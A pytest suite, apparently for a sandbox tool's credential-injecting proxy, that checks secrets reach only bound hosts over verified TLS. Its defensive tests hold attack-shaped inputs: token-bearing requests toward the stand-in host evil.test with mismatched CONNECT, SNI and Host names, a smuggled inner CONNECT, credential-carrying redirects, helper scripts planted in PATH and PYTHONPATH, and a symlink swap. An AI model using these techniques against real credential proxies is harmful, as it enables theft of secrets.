"""Where a secret must not go (F71, F75, F81): other hosts, other names, other protocols, origins that do not prove who they
are; and what is told when there is no secret to be had (F79)."""
import json
import os
import signal
import subprocess

import pytest

from harness import procs
from harness.sbx import PYTHON
from harness.secrets import no_secret, nobody_saw, saw
from lab.guarded import ADDRESSES, OTHER_SECRET, SECRET

GITHUB = ["--credential", "github=env:GH_TOKEN"]
TOKEN = {"GH_TOKEN": SECRET}
CURL = "curl -sS -w '%{http_code}\\n'" # the status ends what it prints
BEARER = '-H "Authorization: Bearer $GH_TOKEN"'

# by_tls(CONNECT's target, SNI, request): what comes back, or how it ended.
CLIENT = """
import json, os, socket, ssl, sys
token = os.environ["GH_TOKEN"]
def read(stream):
    got = b""
    try:
        while data := stream.recv(65536): got += data
    except OSError as error: got += b" !" + str(error).encode()
    return got.decode("latin-1")
def tunnel(target):
    raw = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    raw.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
    head = b""
    while not head.endswith(b"\\r\\n\\r\\n"):
        byte = raw.recv(1)
        if not byte: return None
        head += byte
    return raw if b" 200 " in head.split(b"\\r\\n")[0] else None
def by_tls(target, name, request, verify=True):
    raw = tunnel(target)
    if not raw: return "refused"
    context = ssl.create_default_context()
    if not verify: context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        stream = context.wrap_socket(raw, server_hostname=name)
        stream.sendall(request.replace("TOKEN", token).encode())
        return read(stream)
    except OSError as error: return "!" + str(error)
def by_tcp(target, request):
    raw = tunnel(target)
    if not raw: return "refused"
    raw.sendall(request.replace("TOKEN", token).encode())
    return read(raw)
def ask(host, *fields, path="/check"):
    return "\\r\\n".join([f"GET {path} HTTP/1.1", f"Host: {host}", "Authorization: Bearer TOKEN", "Connection: close", *fields, "", ""])
"""


def shell(sbx, script, *options, env=None, **more):
    return sbx.shell(script, *options, env=TOKEN if env is None else env, **more)


def python(sbx, code, *options, env=None, **more):
    result = sbx.python(CLIENT + code, *options, env=TOKEN if env is None else env, **more)
    no_secret(result.out, result.err)
    return result


def test_other_host(sbx, lab, guarded):
    """F71: what is not bound gets what stands inside."""
    result = shell(sbx, f"echo $GH_TOKEN; curl -sS {BEARER} https://other.test/", *GITHUB, "--allow", "other.test")
    assert lab.requests[0].get("authorization") == "Bearer " + result.ok().out.split()[0]
    nobody_saw(lab)


def test_host_of_another_credential(sbx, lab, guarded):
    """A placeholder where another credential is bound: refused, counted and explained; its own still goes."""
    options = [*GITHUB, "--credential", "anthropic=env:OTHER"]
    script = (f'curl -sS {BEARER} https://api.anthropic.com/check; curl -sS -u "x:$GH_TOKEN" https://api.anthropic.com/check; '
              'curl -sS "https://api.anthropic.com/check?key=$GH_TOKEN"; curl -sS -b "a=$GH_TOKEN" https://api.anthropic.com/check;'
              'curl -sS -e "https://x.test/$GH_TOKEN" https://api.anthropic.com/check; '
              'curl -sS -H "X-Api-Key: $ANTHROPIC_API_KEY" https://api.anthropic.com/check')
    result = shell(sbx, script, *options, env={"GH_TOKEN": SECRET, "OTHER": OTHER_SECRET})
    out = result.ok().out
    assert out.endswith("hello, lab\n"), result
    denials = [json.loads(line) for line in out.splitlines()[:-1] if line.startswith("{")]
    assert len(denials) == 5 and all("github" in json.dumps(d) for d in denials), result
    assert any("github" in m and "api.anthropic.com" in m for m in result.messages), result
    assert len(lab.requests) == 1 and len(saw(lab, "api.anthropic.com", secret=OTHER_SECRET)) == 1
    no_secret(result.out, result.err)


def test_cleartext(sbx, lab, guarded):
    """A secret goes over verified TLS or not at all."""
    result = shell(sbx, f"{CURL} {BEARER} http://api.github.com/check; {CURL} http://api.github.com/check", *GITHUB,
                   "--allow", "api.github.com")
    assert result.ok().out.count("403\n") == 1 and result.out.endswith("who are you?\n401\n"), result
    nobody_saw(lab)


@pytest.mark.parametrize("allow", [[], ["--allow", "api.github.com:*"]])
def test_cleartext_of_a_bound_port(sbx, lab, guarded, project, allow):
    """Port 80 is bound by name: without TLS nothing goes there, whatever else allows it, and `why` says the same."""
    policy = project.policy("../../policy.json", credentials={
        "mine": {"source": {"env": "GH_TOKEN"}, "env": "GH_TOKEN", "bind": ["api.github.com:80"]}})
    options = ["--policy", policy, *allow]
    asked = "http://api.github.com/check"
    result = shell(sbx, f"curl -sS {asked}; curl -sS --noproxy '*' {asked}; curl -sSp {asked}", *options)
    answers = [json.loads(line) for line in result.ok().out.splitlines()]
    assert len(answers) == 3, result
    told = json.loads(sbx("why", "--json", *options, asked).out)
    assert told["reason"] == "not-terminated" and told["fix"] == "use https://", told
    for answer in answers:
        assert all(answer[key] == told[key] for key in ("reason", "rule", "fix")), (answer, told)
    assert any("not-terminated" in m and "use https://" in m for m in result.messages), result
    assert lab.requests == []


def test_names_that_do_not_agree(sbx, lab, guarded):
    """F54, F71: CONNECT, SNI and Host name one host, or nothing goes."""
    code = """
print(json.dumps([
    by_tls("api.github.com:443", "evil.test", ask("api.github.com"), verify=False),
    by_tls("evil.test:443", "api.github.com", ask("api.github.com"), verify=False),
    by_tls("other.test:443", "api.github.com", ask("api.github.com"), verify=False),
    by_tls("api.github.com:443", "api.github.com", ask("evil.test")),
    by_tls("api.github.com:443", "api.github.com", ask("evil.test") + ask("api.github.com")),
    by_tls("api.github.com:443", "api.github.com", ask("api.github.com", "Host: evil.test")),
    by_tls("api.github.com:443", "api.github.com", ask("api.github.com", path="https://evil.test/check")),
    by_tls("OTHER:443", "api.github.com", ask("api.github.com"), verify=False),
    by_tls("ADDRESS:443", None, ask("api.github.com"), verify=False),
    by_tls("api.github.com:443", "api.github.com", "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"),
    by_tcp("api.github.com:443", ask("api.github.com")),
    by_tcp("api.github.com:443", "\\x00\\x01TOKEN\\r\\n"),
]))
""".replace("ADDRESS", ADDRESSES["api.github.com"]).replace("OTHER", lab.zone["other.test"][0])
    result = python(sbx, code, *GITHUB, "--allow", "evil.test", "--allow", "other.test", "--allow", "192.0.2.0/24:443")
    answers = result.json
    assert [n for n, answer in enumerate(answers) if "hello, lab" in answer] == [], answers
    nobody_saw(lab)


def test_redirect(sbx, lab, guarded):
    """F75: a client that takes its login along takes a placeholder along."""
    script = (f"curl -sSL --location-trusted {BEARER} 'https://api.github.com/redirect?to=https://other.test/echo'; "
              f"curl -sSL --location-trusted {BEARER} 'https://api.github.com/redirect?to=https://signed.svc.test/a%3FX-Amz-Signature%3D1'")
    result = shell(sbx, script, *GITHUB, "--allow", "other.test", "--allow", "signed.svc.test")
    assert len(saw(lab, "api.github.com")) == 2 and [r.sni for r in lab.requests].count("other.test") == 1
    no_secret(result.ok().out, result.err)


def test_lies_of_a_name_server(sbx, lab, guarded):
    """The name leads elsewhere: who is there cannot prove the name, and gets nothing."""
    lab.zone["api.github.com"] = [lab.zone["other.test"][0]]
    result = shell(sbx, f"{CURL} {BEARER} https://api.github.com/check", *GITHUB)
    assert result.out.endswith("502\n") and "api.github.com" in result.out, result
    assert lab.requests == []


@pytest.mark.parametrize("how", ["proxy", "bare"])
@pytest.mark.parametrize("name", ["untrusted.test", "expired.test", "wrongname.test"])
def test_origin_that_does_not_prove_its_name(sbx, lab, guarded, project, name, how):
    """P3: not a byte of a request is sent; the client and the summary are told why. No option of a client changes that."""
    policy = project.policy("../lab.json", credentials={
        "lab": {"source": {"env": "GH_TOKEN"}, "env": "LAB_KEY", "bind": [name]}})
    script = "unset https_proxy HTTPS_PROXY all_proxy ALL_PROXY\n" if how == "bare" else ""
    script += f'{CURL} -k -H "X-Api-Key: $LAB_KEY" https://{name}/check'
    result = shell(sbx, script, "--policy", policy)
    assert result.out.endswith("502\n") and name in result.out, result
    assert any(name in m and "certificate" in m for m in result.messages), result
    assert lab.requests == []
    no_secret(result.out, result.err)


SOURCES = {
    "exec that fails": ({"exec": ["sh", "-c", f"echo {SECRET}; echo why it fails >&2; exit 3"]}, "3"),
    "exec that prints nothing": ({"exec": ["true"]}, "empty"),
    "exec that hangs": ({"exec": ["sleep", "1000"], "timeout": "1s"}, "did not end"),
    "exec that is not there": ({"exec": ["no-such-program"]}, "no-such-program"),
    "exec of two lines": ({"exec": ["printf", f"{SECRET}\\nX: y\\n"]}, "line"),
    "exec with a control byte": ({"exec": ["printf", f"{SECRET}\\033"]}, "control"),
    "exec with a NUL": ({"exec": ["printf", f"{SECRET}\\000x"]}, "control"),
    "exec of too much": ({"exec": ["head", "-c", "1000000", "/dev/zero"]}, "more than"),
    "exec of JSON without a value": ({"exec": ["echo", json.dumps({"token": SECRET})]}, "value"),
    "pass that is not there": ({"pass": "lab"}, "the program pass was not found"),
    "op that is not there": ({"op": "op://lab/key/it"}, "the program op was not found"),
    "secret-tool that is not there": ({"secretService": {"a": "b"}}, "the program secret-tool was not found"),
    "file that is not there": ({"file": "~/.no-such-token"}, ".no-such-token"),
    "file that is empty": ({"file": "~/.empty"}, "empty"),
}


@pytest.mark.parametrize("name", SOURCES)
def test_source_that_fails(sbx, lab, guarded, project, name):
    """F79: one clear 502 that names the credential, and the summary repeats it."""
    source, word = SOURCES[name]
    project.write("../../.empty", "\n")
    policy = project.policy("../lab.json", credentials={
        "lab-key": {"source": source, "env": "LAB_KEY", "bind": ["key.svc.test"]}})
    result = shell(sbx, CURL + ' -H "X-Api-Key: $LAB_KEY" https://key.svc.test/check', "--policy", policy)
    no_secret(result.out, result.err)
    nobody_saw(lab)
    told = [m for m in result.messages if "lab-key" in m]
    assert any(word in m for m in told if m.startswith("failed 1x key.svc.test:443")), result
    assert result.out.endswith("502\n") and "lab-key" in result.out and lab.requests == [], result


def test_words_of_a_source_that_fails(sbx, lab, guarded, project):
    """What it says may hold anything: that is for the user, at the end of the run, and not for the inside."""
    policy = project.policy("../lab.json", credentials={
        "lab": {"source": {"exec": ["sh", "-c", f"echo log in again, {SECRET} is old >&2; exit 1"]}, "env": "LAB_KEY",
                "bind": ["key.svc.test"]}})
    result = shell(sbx, CURL + ' -H "X-Api-Key: $LAB_KEY" https://key.svc.test/check', "--policy", policy)
    assert result.out.endswith("502\n") and "ended with status 1" in result.out, result
    no_secret(result.out)
    assert f"credential lab: its program said: log in again, {SECRET} is old" in result.messages, result


def test_variable_that_is_not_set(sbx, lab, guarded):
    result = shell(sbx, f"{CURL} {BEARER} https://api.github.com/check", *GITHUB, env={"GH_TOKEN": None})
    assert result.out.endswith("502\n") and any("GH_TOKEN" in m for m in result.messages), result
    assert lab.requests == []


def test_rotation(sbx, lab, guarded, project):
    """A value that has expired is asked for anew, with no restart."""
    script = f'echo x >>{project.home}/asked; cat {project.home}/current'
    policy = project.policy("../lab.json", credentials={
        "lab": {"source": {"exec": ["sh", "-c", script], "ttl": "1s"}, "env": "LAB_KEY", "bind": ["key.svc.test"]}})
    project.write("../../current", "old-and-refused")
    code = """
import os, sys, time, urllib.request, urllib.error
def ask():
    request = urllib.request.Request("https://key.svc.test/check", headers={"X-Api-Key": os.environ["LAB_KEY"]})
    try: return urllib.request.urlopen(request).read().decode()
    except urllib.error.HTTPError as error: return error.code
print(ask(), ask(), flush=True)
sys.stdin.readline()
time.sleep(1.5)
print(ask(), flush=True)
"""
    with sbx.start("run", "--policy", policy, "--", PYTHON, "-I", "-c", code, stdin=subprocess.PIPE) as process:
        assert process.stdout.readline() == b"401 401\n"
        project.write("../../current", SECRET)
        out, err = process.communicate(b"\n", timeout=60)
    assert out == b"hello, lab\n\n", (out, err)
    assert project.read("../../asked").count("x") == 2
    no_secret(out, err)


def test_lazily(sbx, lab, guarded, project):
    """A source is not read before a request needs it, and once for all of them."""
    policy = project.policy("../lab.json", credentials={
        "lab": {"source": {"exec": ["sh", "-c", f"echo x >>{project.home}/asked; echo {SECRET}"]}, "env": "LAB_KEY",
                "bind": ["key.svc.test"]}})
    shell(sbx, "curl -sS https://key.svc.test/check", "--policy", policy).ok()
    assert not project.exists("../../asked")
    script = 'for n in 1 2 3; do curl -sS -H "X-Api-Key: $LAB_KEY" https://key.svc.test/check & done; wait'
    assert shell(sbx, script, "--policy", policy).ok().out == "hello, lab\n" * 3
    with open(f"{project.home}/asked", encoding="ascii") as file:
        assert file.read() == "x\n"


@pytest.mark.parametrize("how", ["pass", "set", "within"])
def test_value_in_another_variable(sbx, project, how):
    """What is known to hold the value does not go in."""
    env = {**TOKEN, "COPY": f"https://x:{SECRET}@github.com" if how == "within" else SECRET}
    keys = {"set": {"COPY": SECRET}} if how == "set" else {"pass": ["COPY"]}
    policy = project.policy("../lab.json", env=keys, credentials={"github": {"source": {"env": "GH_TOKEN"}}})
    result = shell(sbx, "touch ran", "--policy", policy, env=env, may_refuse=True)
    assert result.code == 125 and "the variable COPY that the command would get holds the value of GH_TOKEN" in result.err
    assert not project.exists("ran")
    no_secret(result.out, result.err)


def test_all_at_once(sbx, lab, guarded, project):
    """As many as a policy may have, for one request: their values do not fit into the socket at once."""
    many = {f"c{n}": {"source": {"env": f"V{n}"}, "bind": ["key.svc.test"], "inject": "attach", "place": {"header": f"X-N{n}"}}
            for n in range(31)}
    policy = project.policy("../lab.json", credentials={
        "lab": {"source": {"env": "GH_TOKEN"}, "env": "LAB_KEY", "bind": ["key.svc.test"]}, **many})
    env = {**TOKEN, **{f"V{n}": f"value-{n}-" + "x" * 900 for n in range(31)}}
    result = shell(sbx, f'{CURL} -m 30 -H "X-Api-Key: $LAB_KEY" https://key.svc.test/check', "--policy", policy, env=env)
    assert result.out == "hello, lab\n200\n", result


def test_no_answer(sbx, lab, guarded, project):
    """sbx itself hangs: the request ends all the same, and the next one works again."""
    curl = f'{CURL} -m 60 {BEARER} https://api.github.com/check'
    script = f"touch began; while ! [ -e go ]; do sleep 0.05; done; {curl} > first; touch second; {curl}"
    process = sbx.start("run", *GITHUB, "--", "sh", "-c", script, env=TOKEN)
    procs.wait_until(lambda: project.exists("began"), "the command")
    os.kill(process.pid, signal.SIGSTOP)
    project.write("go")
    procs.wait_until(lambda: project.exists("second"), "the end of the first request")
    os.kill(process.pid, signal.SIGCONT)
    out, err = process.communicate()
    assert out == b"hello, lab\n200\n", (out, err)
    assert "github: no answer came in time" in project.read("first"), project.read("first")


def test_exec_runs_outside(sbx, lab, guarded, project):
    """It sees what the user sees, and not the variables that are for the inside."""
    project.write("../../key", SECRET)
    policy = project.policy("../lab.json", credentials={
        "lab": {"source": {"exec": ["sh", "-c", 'test -z "$https_proxy" && test -z "$LAB_KEY" && cat ~/key']}, "env": "LAB_KEY",
                "bind": ["key.svc.test"]}})
    script = 'cat ~/key 2>&1; curl -sS -H "X-Api-Key: $LAB_KEY" https://key.svc.test/check'
    result = shell(sbx, script, "--policy", policy)
    assert result.out.endswith("hello, lab\n"), result
    no_secret(result.out, result.err)


PLANT = "printf '#!/bin/sh\\ntouch %s/ran; echo planted-value' $PWD"
TRAPS = {
    "PATH of a script": (["SELF/tools/calls"], "mkdir -p bin; PLANT > bin/helper; chmod +x bin/helper"),
    "env in a script": (["SELF/tools/env"], "mkdir -p bin; PLANT > bin/helper; chmod +x bin/helper"),
    "working directory": (["python3", "-c", "import helper; print('VALUE')"], "echo \"open('ran', 'w')\" > helper.py"),
    "link in PATH": (["SELF/tools/calls"], "mkdir -p b; PLANT > b/helper; chmod +x b/helper"),
    "PYTHONPATH": (["SELF/tools/python"], "mkdir -p lib; echo \"open('$PWD/ran', 'w')\" > lib/helper.py"),
}


@pytest.mark.parametrize("name", TRAPS)
def test_planted_for_a_source(sbx, lab, guarded, project, name):
    """The command plants first, and has the source asked then: nothing of it runs outside (P1)."""
    argv, plant = TRAPS[name]
    tools = {"calls": "#!/bin/sh\nhelper || exit 1\n", "env": "#!/usr/bin/env helper\n",
             "python": f"#!/bin/sh\nexec {PYTHON} -c 'import helper; print(1)'\n"}
    for tool, text in tools.items():
        project.write(f"../../tools/{tool}", text, 0o755)
    argv = [word.replace("SELF", project.home).replace("python3", PYTHON) for word in argv]
    policy = project.policy("../lab.json", credentials={
        "lab": {"source": {"exec": argv}, "env": "LAB_KEY", "bind": ["key.svc.test"]}})
    os.mkdir(f"{project.home}/mybin")
    os.symlink(f"{project.root}/b/helper", f"{project.home}/mybin/helper")
    env = {"PATH": f"{project.root}/bin:bin:{project.home}/mybin:{sbx.env['PATH']}", "PYTHONPATH": f"{project.root}/lib"}
    script = plant.replace("PLANT", PLANT) + f'; curl -sS -H "X-Api-Key: $LAB_KEY" https://key.svc.test/check'
    result = shell(sbx, script, "--policy", policy, env=env)
    assert not project.exists("ran") and "lab: the program" in result.out and "ended with status" in result.out, result
    assert lab.requests == []


def test_file_by_way_of_the_workspace(sbx, lab, guarded, project):
    """A link on the way to the file lies where the command may write: what that would put there is sent to nobody."""
    for name, text in (("keys/token", SECRET), ("other/token", OTHER_SECRET)):
        project.write(f"../../{name}", text)
    os.symlink(f"{project.home}/keys", f"{project.root}/way")
    os.symlink(f"{project.root}/way/token", f"{project.home}/token")
    policy = project.policy("../lab.json", credentials={
        "lab": {"source": {"file": "~/token"}, "env": "LAB_KEY", "bind": ["key.svc.test"]}})
    script = 'rm way; ln -s ~/other way; curl -sS -H "X-Api-Key: $LAB_KEY" https://key.svc.test/check'
    result = shell(sbx, script, "--policy", policy)
    assert "what the command may write" in result.out and lab.requests == [], result
    no_secret(result.out, result.err)


BAD = {
    "bound to nothing": ({"source": {"env": "T"}, "env": "T", "bind": []}, "bind"),
    "bound to all": ({"source": {"env": "T"}, "env": "T", "bind": ["*"]}, "every host"),
    "bound to localhost": ({"source": {"env": "T"}, "env": "T", "bind": ["localhost"]}, "loopback"),
    "bound to a network": ({"source": {"env": "T"}, "env": "T", "bind": ["10.0.0.0/8"]}, "bind"),
    "no source": ({"env": "T", "bind": ["key.svc.test"]}, "source"),
    "no variable": ({"source": {"env": "T"}, "bind": ["key.svc.test"]}, "env"),
    "two sources": ({"source": {"env": "T", "file": "~/x"}, "env": "T", "bind": ["key.svc.test"]}, "source"),
    "unknown member": ({"source": {"env": "T"}, "env": "T", "bind": ["key.svc.test"], "binds": []}, "binds"),
    "unknown preset": ({"preset": "gitlub"}, "github"),
    "unknown place": ({"source": {"env": "T"}, "env": "T", "bind": ["key.svc.test"], "place": "cookie"}, "place"),
    "header that frames": ({"source": {"env": "T"}, "bind": ["key.svc.test"], "inject": "attach", "place": {"header": "Host"}}, "no place"),
    "header that is none": ({"source": {"env": "T"}, "bind": ["key.svc.test"], "inject": "attach", "place": {"header": "a b"}}, "header's name"),
    "user with a colon": ({"source": {"env": "T"}, "bind": ["key.svc.test"], "inject": "attach", "place": {"basic": "a:b"}}, "without ':'"),
    "signing with one variable": ({"preset": "aws", "env": "T"}, "two placeholders"),
    "signing what is not signed": ({"preset": "aws", "inject": "attach"}, "signed anew"),
    "several variables": ({"source": {"env": ["T", "U"]}, "env": "T", "bind": ["key.svc.test"]}, "several variables"),
    "a file inside": ({"source": {"env": "T"}, "file": "~/.config/gh/hosts.yml", "bind": ["key.svc.test"]}, "file"),
    "a vault": ({"source": {"vault": "a/b/c"}, "env": "T", "bind": ["key.svc.test"]}, "vault"),
    "a keyring": ({"source": {"secret-service": {"a": "b"}}, "env": "T", "bind": ["key.svc.test"]}, "secret-service"),
}


@pytest.mark.parametrize("name", BAD)
def test_bad_entry(sbx, lab, project, name):
    """P11: an error with the place in the file and what to write, and nothing is started."""
    entry, word = BAD[name]
    path = project.policy("../bad.json", credentials={"lab": entry})
    result = sbx.run("--policy", path, "--", "touch", "started", env={"T": SECRET})
    result.refused("bad.json", "credentials.lab", word)
    assert not project.exists("started") and "; " in result.messages[0], result
    no_secret(result.err)


def test_clashing_entries(sbx, lab, project):
    entry = {"source": {"env": "T"}, "bind": ["key.svc.test"], "inject": "attach"}
    path = project.policy("../bad.json", credentials={"one": entry, "two": {**entry, "bind": ["*.svc.test"]}})
    sbx.run("--policy", path, "--", "true", env={"T": SECRET}).refused("one", "two")


@pytest.mark.parametrize("mode", ["host", "none"])
def test_without_the_proxy(sbx, lab, mode):
    """Nobody could put the secret in: there is none inside either, and that is said."""
    result = shell(sbx, "env", *GITHUB, "--network", mode)
    assert any("credentials" in m and mode in m for m in result.ok().messages), result
    no_secret(result.out, result.err)


def test_workspace_file_is_never_asked(sbx, lab, guarded, project):
    """Trusted or not: an exec source of a repository would run its commands outside."""
    project.policy(credentials={"lab": {"source": {"exec": ["touch", f"{project.home}/ran"]}, "env": "LAB_KEY",
                                        "bind": ["key.svc.test"]}})
    for words in ((), ("trust",)):
        if words:
            sbx(*words).ok()
        result = shell(sbx, "echo ${LAB_KEY-unset}; true")
        assert result.ok().out == "unset\n" and any("credentials" in m for m in result.messages), result
    assert not project.exists("../../ran")


def test_options_that_say_nothing_useful(sbx, lab):
    for option, word in (("gitlub", "github"), ("github=vault:x", "env:NAME"), ("", "name"), ("github=env:", "env:NAME"),
                         ("github=env:T,U", "several variables"), ("a b", "name")):
        sbx.run("--credential", option, "--", "true", env=TOKEN).refused(word)


def test_proxy_is_out_of_reach(sbx, lab, guarded):
    """The processes that have the secret are outside: nothing inside names or reads them."""
    code = f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
found = []
for pid in range(1, 400):
    try: found.append(open(f"/proc/{{pid}}/comm").read().strip())
    except OSError: pass
print(sorted(set(found)), sep="")
"""
    result = sbx.run(*GITHUB, "--", PYTHON, "-I", "-c", code, env=TOKEN)
    assert "sbx-proxy" not in result.ok().out and "'sbx'" not in result.out, result
